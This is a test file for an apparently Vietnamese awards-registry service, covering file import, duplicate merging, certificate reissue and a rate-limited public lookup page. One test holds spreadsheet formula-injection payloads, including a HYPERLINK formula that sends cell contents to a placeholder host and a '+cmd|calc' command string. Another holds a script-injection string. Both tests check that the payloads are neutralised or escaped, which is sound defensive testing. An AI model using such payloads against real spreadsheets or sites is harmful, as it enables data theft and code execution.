import { sql } from 'drizzle-orm';
import fs from 'node:fs';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { readXlsxRows, writeXlsx } from '@thidua/documents';
import { createTestApp, loggedIn, type Client, type TestApp } from './harness.js';
import { createLedgerEntries } from '../src/modules/registry/index.js';
import { HEADER, importCsv, upload, waitImport, tmpDataDir } from './registry.helpers.js';

let t: TestApp;
let c: Client;
const dataDir = tmpDataDir();

beforeAll(async () => {
  // Every import of this file is read in a worker thread (registry.walk.ts; other files keep the default,
  // under which their small files are read in the server's thread).
  t = await createTestApp({ env: { DATA_DIR: dataDir, IMPORT_WORKER_MIN_BYTES: '0' } });
  c = await loggedIn(t.app, 'chuyenvien');
});
afterAll(async () => {
  await t?.close();
  fs.rmSync(dataDir, { recursive: true, force: true });
});

const row = (name: string, extra: Partial<Record<string, string>> = {}) =>
  [name, extra.birth ?? '1975', extra.gender ?? 'Nam', extra.home ?? 'Tiên Lữ, Hưng Yên', extra.org ?? 'Hưng Yên', extra.award ?? 'bang_khen_tinh', extra.type ?? '', extra.year ?? '2020', extra.dn ?? '15/QĐ-UBND', extra.dd ?? '15/01/2021', extra.auth ?? 'UBND tỉnh Hưng Yên', extra.cccd ?? '']
    .map((v) => (/[",\n]/.test(v) ? `"${v.replace(/"/g, '""')}"` : v))
    .join(',');

describe('registry import', () => {
  it('serves the template with Vietnamese headers, and reads it back', async () => {
    const r = await c.get('/api/v1/registry/imports/template.xlsx');
    expect(r.statusCode).toBe(200);
    expect(r.rawPayload.subarray(0, 4).toString('latin1')).toBe('PK\x03\x04');
    const f = `${dataDir}/tpl.xlsx`;
    fs.writeFileSync(f, r.rawPayload);
    const rows = [];
    for await (const x of readXlsxRows(f, { sheet: 2 })) rows.push(x);
    expect(Object.keys(rows[0]!.values)).toEqual(['Cột', 'Nội dung']);
  });

  it('accepts header variants, date forms, a semicolon delimiter, a BOM and UTF-16', async () => {
    const header = 'HỌ TÊN;năm sinh;Giới tính;Quê quán;Đơn vị;Hình thức;Loại hình;Năm khen;Số QĐ;Ngày QĐ;Cơ quan ban hành;CMND/CCCD';
    const lines = [
      'Vũ Thị Mận;12/05/1980;Nữ;Hưng Yên;Hưng Yên;Bằng khen của Chủ tịch UBND tỉnh;;2019;1/QĐ-UBND;2020-01-10;UBND tỉnh;',
      'Vũ Thị Đào;1981;Nữ;Hưng Yên;Hưng Yên;Bằng khen của bộ, ban, ngành, tỉnh;Đột xuất;2019;2/QĐ-UBND;43845;UBND tỉnh;',
      'Vũ Văn Lê;1982;Nam;Hưng Yên;Hưng Yên;lao_dong_tien_tien;cong_trang;2019;3/QĐ-UBND;5/1/2020;UBND tỉnh;',
    ];
    const v = await importCsv(c, '\uFEFF' + [header, ...lines].join('\n'));
    expect(v.status, JSON.stringify(v)).toBe('committed');
    expect(v.counts).toMatchObject({ rows: 3, valid: 3, invalid: 0, created: 3 });
    const s = await c.get(`/api/v1/registry/search?q=${encodeURIComponent('vu thi dao')}`);
    expect(s.json().items[0]).toMatchObject({ award: 'bang_khen_tinh', type: 'dot_xuat', decision: { date: '2020-01-15' } });
    const m = await c.get(`/api/v1/registry/search?q=${encodeURIComponent('Vũ Thị Mận')}`);
    expect(m.json().items[0]).toMatchObject({ decision: { date: '2020-01-10' }, person: { birthYear: 1980 } });

    const utf16 = Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from([HEADER, row('Hà Văn Mười Sáu', { dn: '16/QĐ' })].join('\r\n'), 'utf16le')]);
    const u = await importCsv(c, utf16);
    expect(u.counts).toMatchObject({ valid: 1, created: 1 });
    const tab = [HEADER.replaceAll(',', '\t'), row('Hà Văn Tab', { dn: '17/QĐ', home: 'Hưng Yên' }).replaceAll(',', '\t')].join('\n');
    expect((await importCsv(c, tab)).counts).toMatchObject({ valid: 1, created: 1 });
  });

  it('reports bad rows with spreadsheet row number, header text and code; commits only the valid rows', async () => {
    const csv = [
      HEADER,
      row('Đỗ Văn Tốt'),
      row('', {}), // row 3: no name
      row('Đỗ Văn Ngày', { dd: '31/02/2021' }), // row 4
      row('Đỗ Văn Năm', { year: '2019', birth: '2030' }), // row 5
      row('Đỗ Văn Khen', { award: 'Huân chương Mặt Trăng' }), // row 6
      row('Đỗ Văn Căn', { cccd: '0790851234567' }), // row 7: 13 digits
      row('Đỗ Văn Tỉnh', { cccd: '099075001234' }), // row 8: bad place code
      row('Đỗ Văn Cước', { cccd: '033075001234', birth: '1975', gender: 'Nam' }), // ok
      row('Đỗ Thị Lệch', { cccd: '033075001235', birth: '1976', gender: 'Nữ' }), // warnings
      row('Đỗ Văn Cũ', { cccd: '123456789' }), // CMND legacy
      row('Đỗ Văn Trước', { birth: '1990', year: '1985' }), // row 12
    ].join('\r\n');
    const v = await importCsv(c, csv, false);
    expect(v.status).toBe('previewed');
    expect(v.counts).toMatchObject({ rows: 11, valid: 4, invalid: 7, created: 0 });
    const at = (row: number) => v.errors.filter((e) => e.row === row).map((e) => `${e.column}:${e.code}`);
    expect(at(3)).toEqual(['Họ và tên:required']);
    expect(at(4)).toEqual(['Ngày quyết định:invalid_date']);
    expect(at(5)).toContain('Năm sinh:invalid_year');
    expect(at(6)).toEqual(['Hình thức khen thưởng:unknown_award']);
    expect(at(7)).toEqual(['Số CCCD:citizen_id_format']);
    expect(at(8)).toEqual(['Số CCCD:citizen_id_province']);
    expect(at(12)).toEqual(['Năm thành tích:year_before_birth']);
    expect(v.warnings.filter((w) => w.row === 10).map((w) => w.code)).toEqual(['citizen_id_mismatch', 'citizen_id_mismatch']);
    expect(v.warnings.filter((w) => w.row === 11).map((w) => w.code)).toEqual(['citizen_id_legacy']);
    const commit = await c.post(`/api/v1/registry/imports/${v.id}/commit`);
    expect(commit.statusCode, commit.body).toBe(202);
    const done = await waitImport(c, v.id, ['committed', 'failed']);
    expect(done.counts).toMatchObject({ created: 4, existing: 0 });
    expect((await c.post(`/api/v1/registry/imports/${v.id}/commit`)).statusCode).toBe(409);
  });

  it('converts TCVN3 and VNI cells and reports each with its original text', async () => {
    const csv = [HEADER, row('Khæng V¨n H¶i', { home: 'Kinh M«n, H¶i D­¬ng', dn: '30/QĐ' }), row('Khoång Thò Luïa', { dn: '31/QĐ' })].join('\n');
    const v = await importCsv(c, csv);
    expect(v.counts).toMatchObject({ valid: 2, created: 2 });
    const w = v.warnings.filter((x) => x.code === 'legacy_encoding_converted');
    expect(w.map((x) => x.original)).toEqual(expect.arrayContaining(['Khæng V¨n H¶i', 'Kinh M«n, H¶i D­¬ng', 'Khoång Thò Luïa']));
    expect(w.find((x) => x.original === 'Khæng V¨n H¶i')!.column).toBe('Họ và tên');
    const r = await c.get(`/api/v1/registry/search?q=${encodeURIComponent('Khổng Thị Lụa')}`);
    expect(r.json().items[0].person.fullName).toBe('Khổng Thị Lụa');
  });

  it('stores formula-like cells as text and exports them neutralised (CSV and XLSX)', async () => {
    const evil = '=HYPERLINK("http://x/?"&A1,"Bấm")';
    const csv = [HEADER, row('Phan Văn Công Thức', { home: evil, auth: '@SUM(1)', dn: '+cmd|calc' })].join('\n');
    const v = await importCsv(c, csv);
    expect(v.counts.created).toBe(1);
    const s = await c.get(`/api/v1/registry/search?q=${encodeURIComponent('phan van cong thuc')}`);
    expect(s.json().items[0].person.hometown).toBe(evil);
    const e = await c.get(`/api/v1/registry/export.csv?q=${encodeURIComponent('phan van cong thuc')}`);
    expect(e.statusCode).toBe(200);
    expect(e.body).toContain(`"'=HYPERLINK(""http://x/?""&A1,""Bấm"")"`);
    expect(e.body).toContain(`'@SUM(1)`);
    expect(e.body).toContain(`'+cmd|calc`);
    expect(e.body).not.toMatch(/,=HYPERLINK/);
    const x = await c.get(`/api/v1/registry/export.xlsx?q=${encodeURIComponent('phan van cong thuc')}`);
    expect(x.statusCode).toBe(200);
    const f = `${dataDir}/exp.xlsx`;
    fs.writeFileSync(f, x.rawPayload);
    const rows = [];
    for await (const r of readXlsxRows(f)) rows.push(r);
    expect(rows[0]!.values['Quê quán']).toBe(`'${evil}`);
  });

  it('finds a person again by name and birth year, and one without a birth year only among people without one', async () => {
    // Both branches of the identity lookup: the same name with a year, with another year, and without a year.
    const first = [HEADER, row('Tạ Văn Khuyết', { dn: '50/QĐ', birth: '1961' }), row('Tạ Văn Khuyết', { dn: '51/QĐ', birth: '' }), row('Tạ Văn Khuyết', { dn: '52/QĐ', birth: '1962' })].join('\n');
    const a = await importCsv(c, first);
    expect(a.counts).toMatchObject({ valid: 3, created: 3, existing: 0 });
    const people = async () => {
      const s = await c.get(`/api/v1/registry/search?q=${encodeURIComponent('Tạ Văn Khuyết')}`);
      const by = new Map<string, string>();
      for (const i of s.json().items as { decision: { number: string }; person: { id: string } }[]) by.set(i.decision.number, i.person.id);
      return by;
    };
    const before = await people();
    expect(new Set(before.values()).size).toBe(3);
    // New entries (other decisions) for each of the three: each lands on its own person.
    const second = [HEADER, row('Tạ Văn Khuyết', { dn: '60/QĐ', birth: '1961', year: '2021' }), row('Tạ Văn Khuyết', { dn: '61/QĐ', birth: '', year: '2021' }), row('Tạ Văn Khuyết', { dn: '62/QĐ', birth: '1962', year: '2021' })].join('\n');
    const b = await importCsv(c, second);
    expect(b.counts).toMatchObject({ valid: 3, created: 3, existing: 0 });
    const after = await people();
    expect(after.get('60/QĐ')).toBe(before.get('50/QĐ'));
    expect(after.get('61/QĐ')).toBe(before.get('51/QĐ'));
    expect(after.get('62/QĐ')).toBe(before.get('52/QĐ'));
    expect(new Set(after.values()).size).toBe(3);
  });

  it('re-importing the same file creates nothing new; an xlsx file works the same', async () => {
    const csv = [HEADER, row('Lương Văn Lặp', { dn: '40/QĐ' }), row('Lương Thị Lặp', { dn: '41/QĐ', gender: 'Nữ' }), row('Lương Văn Lặp', { dn: '42/QĐ' })].join('\n');
    const a = await importCsv(c, csv);
    expect(a.counts).toMatchObject({ valid: 3, created: 3, existing: 0 });
    const b = await importCsv(c, csv);
    expect(b.counts).toMatchObject({ valid: 3, created: 0, existing: 3 });
    const cols = HEADER.split(',').map((h, i) => ({ header: h, key: `c${i}`, type: 'text' as const }));
    const xlsx = await writeXlsx([{ name: 'S', columns: cols, rows: [Object.fromEntries(['Lương Văn Lặp', '1975', 'Nam', 'Tiên Lữ, Hưng Yên', 'Hưng Yên', 'bang_khen_tinh', '', '2020', '40/QĐ', '15/01/2021', 'UBND tỉnh Hưng Yên', ''].map((v, i) => [`c${i}`, v]))] }]);
    const x = await importCsv(c, xlsx, true, 'a.xlsx');
    expect(x.counts).toMatchObject({ valid: 1, created: 0, existing: 1 });
    // The same person by name + birth year: one person with two entries.
    const s = await c.get(`/api/v1/registry/search?q=${encodeURIComponent('Lương Văn Lặp')}`);
    const ids = new Set(s.json().items.map((i: { person: { id: string } }) => i.person.id));
    expect(ids.size).toBe(1);
  });

  it('refuses wrong types (415) and too-large files (413); needs a session', async () => {
    const png = Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 0, 0, 0, 0]);
    expect((await upload(c, 'x.csv', png)).statusCode).toBe(415);
    expect((await upload(c, 'x.csv', Buffer.from([0xc3, 0x28, 0x41, 0x42]))).statusCode).toBe(415);
    const big = Buffer.alloc(101 * 1024 * 1024, 0x41);
    const r = await upload(c, 'big.csv', big);
    expect(r.statusCode).toBe(413);
    expect(r.json().code).toBe('payload_too_large');
    const anon = await t.app.inject({ method: 'GET', url: '/api/v1/registry/search?q=a' });
    expect(anon.statusCode).toBe(401);
  });
});

describe('ledger write API and reissue', () => {
  it('createLedgerEntries writes entries in the caller transaction; a reissue points to the new entry', async () => {
    const s = await c.get(`/api/v1/registry/search?q=${encodeURIComponent('Đỗ Văn Cước')}`);
    const item = s.json().items[0] as { id: string; person: { id: string } };
    const owner = ((await t.handle.db.execute('SELECT owner_org_id AS o FROM award_entry WHERE id = \'' + item.id + '\'' as never)) as unknown as { rows: { o: string }[] }).rows[0]!.o;
    const ids = await t.handle.db.transaction(async (tx) =>
      createLedgerEntries(tx, [{ subjectKind: 'individual', personId: item.person.id, awardCode: 'chien_si_thi_dua_co_so', achievementYear: 2021, decisionNumber: '99/QĐ-UBND', decisionDate: '2022-01-10', decisionAuthority: 'UBND tỉnh', certificateCode: 'HY-2022-0001', ownerOrgId: owner }]),
    );
    expect(ids).toHaveLength(1);
    const e = await c.get(`/api/v1/registry/entries/${ids[0]}`);
    expect(e.statusCode).toBe(200);
    expect(e.json()).toMatchObject({ award: 'chien_si_thi_dua_co_so', source: 'decided', status: 'valid', certificateCode: 'HY-2022-0001' });
    const r = await c.post(`/api/v1/registry/entries/${ids[0]}/reissue`, { certificateCode: 'HY-2022-0001-CL', reason: 'Mất bản gốc' });
    expect(r.statusCode, r.body).toBe(201);
    const old = (await c.get(`/api/v1/registry/entries/${ids[0]}`)).json();
    expect(old).toMatchObject({ status: 'reissued', replacedById: r.json().id });
    expect(r.json()).toMatchObject({ status: 'valid', certificateCode: 'HY-2022-0001-CL' });
    const donvi = await loggedIn(t.app, 'donvi');
    expect((await donvi.get(`/api/v1/registry/entries/${ids[0]}`)).statusCode).toBe(404);
  });
});

describe('statistics during a large import', () => {
  it('analyses the registry tables while a commit pass grows them (not only at the end)', async () => {
    // Stale statistics made the identity probe scan whole (award, year) ranges (bench/RESULTS.md 2026-12-07,
    // second machine); the commit pass now runs ANALYZE after 20,000 created entries, then at each doubling.
    const analyses = async () =>
      Number(((await t.handle.db.execute(sql`SELECT analyze_count AS n FROM pg_stat_user_tables WHERE relname = 'award_entry'`)) as unknown as { rows: { n: number | string }[] }).rows[0]!.n);
    const before = await analyses();
    const lines = Array.from({ length: 20_500 }, (_, i) => row(`Thống Kê Số ${i}`, { dn: `${i}/QĐ-TK`, birth: String(1950 + (i % 50)) }));
    const v = await importCsv(c, [HEADER, ...lines].join('\n'), true, 'thong-ke.csv');
    expect(v.status, JSON.stringify(v)).toBe('committed');
    expect(v.counts).toMatchObject({ rows: 20_500, created: 20_500 });
    // One ANALYZE when 20,000 entries were created, one VACUUM (ANALYZE) after the commit. PostgreSQL's
    // backends publish their statistics counters up to 10 s after going idle: read until both are seen.
    let delta = (await analyses()) - before;
    for (const end = Date.now() + 15_000; delta < 2 && Date.now() < end; delta = (await analyses()) - before) await new Promise((r) => setTimeout(r, 500));
    expect(delta).toBe(2);
  }, 120_000);
});

describe('duplicates and the public lookup', () => {
  it('finds candidate pairs, merges with undo, remembers "not the same person"', async () => {
    const csv = [
      HEADER,
      row('Tô Văn Trùng', { dn: '50/QĐ', birth: '1960', home: 'Kim Động, Hưng Yên', cccd: '' }),
      row('To Van Trung', { dn: '51/QĐ', birth: '1960', home: 'Kim Động, Hưng Yên' }),
      row('Tô Thị Khác', { dn: '52/QĐ', birth: '1961', cccd: '033161001111', gender: 'Nữ' }),
      row('Tô Thị Khác Tên', { dn: '53/QĐ', birth: '1961', cccd: '033161001111', gender: 'Nữ' }),
    ].join('\n');
    await importCsv(c, csv);
    // The scan job runs after the commit.
    let items: { id: string; score: number; reasons: string[]; people: { id: string; fullName: string; entries: number }[] }[] = [];
    for (let i = 0; i < 100 && items.length < 1; i++) {
      items = (await c.get('/api/v1/registry/duplicates')).json().items.filter((d: { people: { fullName: string }[] }) => d.people.some((p) => p.fullName.startsWith('T')));
      await new Promise((r) => setTimeout(r, 100));
    }
    const close = items.find((d) => d.people.some((p) => p.fullName === 'To Van Trung'))!;
    expect(close.reasons).toEqual(expect.arrayContaining(['close_name_variant', 'same_birth_year', 'same_hometown']));
    const keep = close.people.find((p) => p.fullName === 'Tô Văn Trùng')!;
    const m = await c.post(`/api/v1/registry/duplicates/${close.id}/merge`, { keepPersonId: keep.id });
    expect(m.statusCode, m.body).toBe(201);
    expect(m.json().movedEntryIds.length).toBe(1);
    const after = await c.get(`/api/v1/registry/search?q=${encodeURIComponent('to van trung')}`);
    expect(new Set(after.json().items.map((i: { person: { id: string } }) => i.person.id))).toEqual(new Set([keep.id]));
    const undo = await c.post(`/api/v1/registry/merges/${m.json().id}/undo`);
    expect(undo.statusCode, undo.body).toBe(200);
    const back = await c.get(`/api/v1/registry/search?q=${encodeURIComponent('to van trung')}`);
    expect(new Set(back.json().items.map((i: { person: { id: string } }) => i.person.id)).size).toBe(2);
    const nd = await c.post(`/api/v1/registry/duplicates/${close.id}/not-duplicate`);
    expect(nd.statusCode, nd.body).toBe(200);
    await c.post('/api/v1/registry/duplicates/scan');
    await new Promise((r) => setTimeout(r, 1500));
    const open = (await c.get('/api/v1/registry/duplicates')).json().items.map((d: { id: string }) => d.id);
    expect(open).not.toContain(close.id);
    const remembered = (await c.get('/api/v1/registry/duplicates?status=not_duplicate')).json().items.map((d: { id: string }) => d.id);
    expect(remembered).toContain(close.id);
  });

  it('public lookup: no session, only valid entries, no ID number or birth date, rate-limited', async () => {
    const pub = (body: unknown, ip = '10.0.0.9') => t.app.inject({ method: 'POST', url: '/api/v1/public/registry/lookup', payload: body as object, remoteAddress: ip });
    const r = await pub({ fullName: 'Đỗ Văn Cước', birthYear: 1975 });
    expect(r.statusCode, r.body).toBe(200);
    // The imported award and the reissued certificate's new entry; the replaced (reissued) one is not shown.
    expect(r.json().items).toHaveLength(2);
    expect(r.json().items.map((i: { award: string }) => i.award).sort()).toEqual(['bang_khen_tinh', 'chien_si_thi_dua_co_so']);
    expect(r.json().items[0]).toMatchObject({ fullName: 'Đỗ Văn Cước', birthYear: 1975 });
    expect(r.body).not.toMatch(/033075001234|citizen|birthDate/);
    expect((await pub({ fullName: 'do van cuoc', birthYear: 1975, province: 'Hưng Yên' })).json().items).toHaveLength(1); // the ledger entry has no organisation
    expect((await pub({ fullName: 'do van cuoc', birthYear: 1975, province: 'Cà Mau' })).json().items).toHaveLength(0);
    expect((await pub({ fullName: 'Đỗ Văn Cước', birthYear: 1976 })).json().items).toHaveLength(0);
    expect((await pub({ fullName: 'Đỗ Văn', birthYear: 1975 })).json().items).toHaveLength(0);
    expect((await pub({ fullName: 'Đỗ Văn Cước', birthYear: 1975, cccd: '1' })).statusCode).toBe(400);
    let last = 0;
    for (let i = 0; i < 30; i++) last = (await pub({ fullName: 'Ai Đó Không', birthYear: 1975 }, '10.0.0.77')).statusCode;
    expect(last).toBe(200);
    const limited = await pub({ fullName: 'Ai Đó Không', birthYear: 1975 }, '10.0.0.77');
    expect(limited.statusCode).toBe(429);
    expect(limited.json().code).toBe('too_many_attempts');
    t.clock.advance(61_000);
    expect((await pub({ fullName: 'Ai Đó Không', birthYear: 1975 }, '10.0.0.77')).statusCode).toBe(200);
  });

  it('the portal page /tra-cuu-khen-thuong: a POST form, the same minimal data, escaped, coded refusals, the same rate limit', async () => {
    const page = (form: Record<string, string>, ip = '10.0.1.9') =>
      t.app.inject({ method: 'POST', url: '/tra-cuu-khen-thuong', payload: new URLSearchParams(form).toString(), headers: { 'content-type': 'application/x-www-form-urlencoded' }, remoteAddress: ip });
    const blank = await t.app.inject({ method: 'GET', url: '/tra-cuu-khen-thuong' });
    expect(blank.statusCode).toBe(200);
    expect(blank.headers['content-type']).toMatch(/text\/html/);
    expect(blank.body).toContain('<form method="post" action="/tra-cuu-khen-thuong">');
    const found = await page({ fullName: 'do van cuoc', birthYear: '1975' });
    expect(found.statusCode, found.body).toBe(200);
    expect(found.body).toContain('Tìm thấy <strong>2</strong> khen thưởng còn hiệu lực');
    expect(found.body).toContain('<td>Đỗ Văn Cước</td><td>1975</td>');
    expect(found.body).not.toMatch(/033075001234|birthDate/);
    expect(found.headers['cache-control']).toBe('no-store');
    const none = await page({ fullName: 'Đỗ Văn Cước', birthYear: '1976' });
    expect(none.body).toContain('Không tìm thấy khen thưởng nào');
    // What the visitor typed comes back escaped, never as markup.
    const xss = await page({ fullName: '<script>alert(1)</script> Văn', birthYear: '1975' });
    expect(xss.body).not.toContain('<script>alert(1)</script>');
    expect(xss.body).toContain('&lt;script&gt;');
    const short = await page({ fullName: 'Cước', birthYear: '1975' });
    expect(short.statusCode).toBe(400);
    expect(short.body).toContain('Nhập họ và tên đầy đủ');
    expect((await page({ fullName: 'Đỗ Văn Cước', birthYear: '75' })).statusCode).toBe(400);
    // The JSON API still refuses a form body (the parser is scoped to the page).
    const api = await t.app.inject({ method: 'POST', url: '/api/v1/public/registry/lookup', payload: 'fullName=a+b&birthYear=1975', headers: { 'content-type': 'application/x-www-form-urlencoded' } });
    expect(api.statusCode).toBe(415);
    for (let i = 0; i < 30; i++) expect((await page({ fullName: 'Ai Đó Không', birthYear: '1975' }, '10.0.1.77')).statusCode).toBe(200);
    const limited = await page({ fullName: 'Ai Đó Không', birthYear: '1975' }, '10.0.1.77');
    expect(limited.statusCode).toBe(429);
    expect(limited.headers['retry-after']).toMatch(/^\d+$/);
    expect(limited.body).toContain('quá nhiều lần');
  });
});
